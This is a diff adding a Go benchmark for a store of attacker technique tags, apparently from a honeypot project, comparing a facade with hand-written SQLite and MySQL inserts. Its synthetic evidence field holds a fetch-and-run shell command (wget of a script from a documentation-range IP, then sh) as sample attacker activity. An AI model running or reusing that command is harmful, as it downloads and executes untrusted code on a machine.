@@ -1,0 +1,277 @@
+package conformance
+
+import (
+	"bytes"
+	"context"
+	"database/sql"
+	"encoding/json"
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/uuid"
+
+	"github.com/decnet/ttpstore/ttp"
+)
+
+// Benchmark measures the store beside a hand-written loop that writes the same tags to the same schema,
+// and first writes beside replays. The names are keyed so that benchstat shows the ratios:
+//
+//	benchstat -filter '/impl:(facade OR handwritten)' -col /impl   the facade against the loop
+//	benchstat -filter '/impl:facade' -col /pass                    a replay against the first write
+//
+// The open function makes a pool on the URL's database as a caller would who writes the loop: with the
+// settings that ttp.Open uses and, unlike the pool of Engine.Empty, no recorder in between.
+//
+// go test -count repeats one line before it goes on to the next, so that a load that comes and goes
+// looks like a difference; on a shared machine repeat the whole run in place of -count.
+func Benchmark(b *testing.B, engine Engine, open func(tb testing.TB, url string) *sql.DB) {
+	b.Run("Insert", func(b *testing.B) {
+		for _, rows := range []int{1000, 10000} {
+			tags := benchmarkTags(rows)
+			for _, pass := range []string{"first", "replay"} {
+				for _, impl := range []string{"facade", "handwritten"} {
+					b.Run(fmt.Sprintf("rows=%d/pass=%s/impl=%s", rows, pass, impl), func(b *testing.B) {
+						db := newDatabase(b, engine)
+						write := facadeWrite(b, db)
+						if impl == "handwritten" {
+							write = handwrittenWrite(engine.Dialect, open(b, db.url))
+						}
+						benchmarkInsert(b, engine.Dialect, open(b, db.url), write, tags, pass == "replay")
+					})
+				}
+			}
+		}
+	})
+	b.Run("Rollup", func(b *testing.B) { benchmarkRollup(b, newDatabase(b, engine)) })
+}
+
+// writeTags writes tags and returns how many were new.
+type writeTags func(ctx context.Context, tags []ttp.Tag) (int, error)
+
+// facadeWrite migrates the database, too.
+func facadeWrite(b *testing.B, db *database) writeTags {
+	s := db.store(b)
+	return func(ctx context.Context, tags []ttp.Tag) (int, error) {
+		result, err := s.InsertTags(ctx, tags)
+		return result.Inserted, err
+	}
+}
+
+// benchmarkInsert writes the same tags each time. Before a first write it empties the table by a
+// connection of its own, so that every write does the same work, however many there are, and none
+// profits from what emptying has left in its connection's cache. An empty table makes the engine's part
+// the smallest, and so the facade's the largest.
+func benchmarkInsert(b *testing.B, dialect ttp.Dialect, other *sql.DB, write writeTags, tags []ttp.Tag, replay bool) {
+	ctx := context.Background()
+	want := len(tags)
+	if n, err := write(ctx, tags); err != nil || n != want {
+		b.Fatalf("the first write wrote %d of %d tags: %v", n, want, err)
+	}
+	if replay {
+		want = 0
+	}
+	for b.Loop() {
+		if !replay {
+			b.StopTimer()
+			emptyTags(b, dialect, other)
+			b.StartTimer()
+		}
+		if n, err := write(ctx, tags); err != nil || n != want {
+			b.Fatalf("wrote %d tags, want %d: %v", n, want, err)
+		}
+	}
+	b.ReportMetric(float64(b.N*len(tags))/b.Elapsed().Seconds(), "tags/s")
+}
+
+func emptyTags(b *testing.B, dialect ttp.Dialect, db *sql.DB) {
+	statements := map[ttp.Dialect][]string{
+		ttp.SQLite: {"DELETE FROM ttp_tag", "PRAGMA wal_checkpoint(TRUNCATE)"},
+		ttp.MySQL:  {"TRUNCATE TABLE ttp_tag"},
+	}
+	for _, statement := range statements[dialect] {
+		if _, err := db.Exec(statement); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func benchmarkRollup(b *testing.B, db *database) {
+	const rows = 50_000
+	ctx := context.Background()
+	s := db.store(b)
+	for chunk := range slices.Chunk(benchmarkTags(rows), 10_000) {
+		insert(b, s, chunk...)
+	}
+	attackers := make([]ttp.Attacker, benchmarkAttackers)
+	for i := range attackers {
+		attackers[i] = ttp.Attacker{UUID: benchmarkAttacker(i), IdentityUUID: id(fmt.Sprint("identity ", i%100))}
+	}
+	succeed(b, s.UpsertAttackers(ctx, attackers))
+	for _, rollup := range []struct {
+		scope string
+		list  func() ([]ttp.TechniqueRollupRow, error)
+	}{
+		{"identity", func() ([]ttp.TechniqueRollupRow, error) { return s.ListTechniquesByIdentity(ctx, id("identity 0")) }},
+		{"fleet", func() ([]ttp.TechniqueRollupRow, error) { return s.ListDistinctTechniques(ctx) }},
+	} {
+		b.Run("scope="+rollup.scope, func(b *testing.B) {
+			var tags int64
+			for b.Loop() {
+				tags = 0
+				for _, row := range must[[]ttp.TechniqueRollupRow](b)(rollup.list()) {
+					tags += row.Count
+				}
+			}
+			if tags == 0 {
+				b.Fatal("there are no tags")
+			}
+			b.ReportMetric(float64(tags), "tags")
+		})
+	}
+}
+
+// benchmarkAttackers is how many attackers there are; few of them have most of the tags.
+const benchmarkAttackers = 2000
+
+func benchmarkAttacker(i int) uuid.UUID { return id(fmt.Sprint("attacker ", i)) }
+
+// benchmarkTags are tags such as a honeypot's, the same ones each time.
+func benchmarkTags(n int) []ttp.Tag {
+	random := rand.New(rand.NewPCG(1, 2))
+	skewed := rand.NewZipf(random, 1.2, 8, benchmarkAttackers-1)
+	tags := make([]ttp.Tag, n)
+	for i := range tags {
+		attacker := int(skewed.Uint64())
+		technique := random.IntN(60)
+		tags[i] = newTag(id(fmt.Sprint("event ", i)).String(), func(tag *ttp.Tag) {
+			tag.AttackerUUID = benchmarkAttacker(attacker)
+			tag.SessionID = fmt.Sprintf("session-%04d-%02d", attacker, random.IntN(10))
+			tag.DeckyID = fmt.Sprintf("decky-%02d", random.IntN(20))
+			tag.Tactic = fmt.Sprintf("TA%04d", technique%14)
+			tag.TechniqueID = fmt.Sprintf("T1%03d", technique)
+			if technique%3 == 0 {
+				tag.SubTechniqueID = fmt.Sprintf("%s.%03d", tag.TechniqueID, 1+random.IntN(4))
+			}
+			tag.Confidence = 0.3 + 0.7*random.Float64()
+			tag.RuleID = fmt.Sprintf("R%04d", technique)
+			tag.Evidence = json.RawMessage(fmt.Sprintf(
+				`{"command":"wget -q http://203.0.113.%d/%08x.sh -O /tmp/.x && sh /tmp/.x","matched":"wget","user":"root","pid":%d,"tty":true}`,
+				random.IntN(256), random.Uint32(), random.IntN(1<<15)))
+			tag.ObservedAt = at(random.IntN(30 * 24 * 3600 * 1e6))
+		})
+	}
+	return tags
+}
+
+const (
+	insertColumns = `INSERT INTO ttp_tag (uuid, source_kind, source_id, attacker_uuid, identity_uuid, session_id, decky_id,` +
+		` tactic, technique_id, sub_technique_id, confidence, rule_id, rule_version,` +
+		` evidence, attack_release, observed_at, ingested_at, batch_uuid) VALUES `
+	insertTuple = `(?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`
+	// insertRows is the number of rows in one statement on MySQL, as in the facade.
+	insertRows = 250
+)
+
+// handwrittenWrite is what one writes who has no facade: the tags' uuids, one transaction, on SQLite one
+// prepared statement for all rows, on MySQL some hundred rows a statement, and the sum of the rows
+// affected. It sorts by uuid as the facade does: writers that race would deadlock otherwise on MySQL, and
+// on both engines an ordered batch is faster to write, which is no merit of the facade's. It neither
+// validates the tags nor tells which of them were new.
+func handwrittenWrite(dialect ttp.Dialect, db *sql.DB) writeTags {
+	return func(ctx context.Context, tags []ttp.Tag) (int, error) {
+		batch, err := uuid.NewV7()
+		if err != nil {
+			return 0, err
+		}
+		now := time.Now()
+		rows := make([]*ttp.Tag, len(tags))
+		for i, tag := range tags {
+			tag.UUID, tag.BatchUUID, tag.IngestedAt = tag.ComputeUUID(), batch, now
+			rows[i] = &tag
+		}
+		slices.SortFunc(rows, func(a, b *ttp.Tag) int { return bytes.Compare(a.UUID[:], b.UUID[:]) })
+		tx, err := db.BeginTx(ctx, nil)
+		if err != nil {
+			return 0, err
+		}
+		defer func() { _ = tx.Rollback() }()
+		insertAll := insertBySQLite
+		if dialect == ttp.MySQL {
+			insertAll = insertByMySQL
+		}
+		written, err := insertAll(ctx, tx, rows)
+		if err != nil {
+			return 0, err
+		}
+		return int(written), tx.Commit()
+	}
+}
+
+func insertBySQLite(ctx context.Context, tx *sql.Tx, rows []*ttp.Tag) (written int64, err error) {
+	stmt, err := tx.PrepareContext(ctx, insertColumns+insertTuple+` ON CONFLICT (uuid) DO NOTHING`)
+	if err != nil {
+		return 0, err
+	}
+	defer func() { _ = stmt.Close() }()
+	var args []any
+	for _, row := range rows {
+		args = appendArgs(args[:0], row)
+		result, err := stmt.ExecContext(ctx, args...)
+		if err != nil {
+			return 0, err
+		}
+		n, err := result.RowsAffected()
+		if err != nil {
+			return 0, err
+		}
+		written += n
+	}
+	return written, nil
+}
+
+func insertByMySQL(ctx context.Context, tx *sql.Tx, rows []*ttp.Tag) (written int64, err error) {
+	var args []any
+	for chunk := range slices.Chunk(rows, insertRows) {
+		args = args[:0]
+		for _, row := range chunk {
+			args = appendArgs(args, row)
+		}
+		query := insertColumns + insertTuple + strings.Repeat(", "+insertTuple, len(chunk)-1) +
+			` ON DUPLICATE KEY UPDATE rule_version = ttp_tag.rule_version`
+		result, err := tx.ExecContext(ctx, query, args...)
+		if err != nil {
+			return 0, err
+		}
+		n, err := result.RowsAffected()
+		if err != nil {
+			return 0, err
+		}
+		written += n
+	}
+	return written, nil
+}
+
+func appendArgs(args []any, t *ttp.Tag) []any {
+	return append(args, t.UUID[:], t.SourceKind, t.SourceID, idOrNull(t.AttackerUUID), idOrNull(t.IdentityUUID),
+		textOrNull(t.SessionID), textOrNull(t.DeckyID), t.Tactic, t.TechniqueID, textOrNull(t.SubTechniqueID),
+		t.Confidence, t.RuleID, t.RuleVersion, string(t.Evidence), t.AttackRelease,
+		t.ObservedAt.UnixMicro(), t.IngestedAt.UnixMicro(), t.BatchUUID[:])
+}
+
+func idOrNull(id uuid.UUID) any {
+	if id == uuid.Nil {
+		return nil
+	}
+	return id[:]
+}
+
+func textOrNull(s string) any {
+	if s == "" {
+		return nil
+	}
+	return s
+}
